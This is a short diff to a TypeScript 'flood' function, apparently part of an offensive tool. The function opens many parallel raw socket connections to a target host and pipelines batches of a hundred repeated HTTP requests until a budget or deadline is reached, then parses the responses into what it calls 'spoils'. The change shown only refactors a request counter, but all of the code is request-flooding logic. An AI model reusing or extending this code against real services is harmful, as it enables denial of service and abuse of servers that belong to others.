@@ -175,8 +175,8 @@ async function flood(orders: Orders, spoils: Spoils, until: number): Promise<voi
   const batch = text.repeat(100);
   await Promise.all(
     Array.from({ length: FLOOD_CONNECTIONS }, async () => {
-      let left = FLOOD_REQUESTS;
-      while (left > 0 && Date.now() < until) {
+      const left = { requests: FLOOD_REQUESTS };
+      while (left.requests > 0 && Date.now() < until) {
         const socket = connect({ port: Number(port), host: hostname, localAddress: ADDRESS });
         socket.on('data', (part) => {
           const answers = part.toString('latin1').split('HTTP/1.1 ').slice(1);
@@ -190,8 +190,8 @@ async function flood(orders: Orders, spoils: Spoils, until: number): Promise<voi
           socket.on('error', () => undefined);
         });
         const write = () => {
-          while (left > 0 && !socket.destroyed) {
-            left -= 100;
+          while (left.requests > 0 && !socket.destroyed) {
+            left.requests -= 100;
             if (!socket.write(batch)) return void socket.once('drain', write);
           }
         };
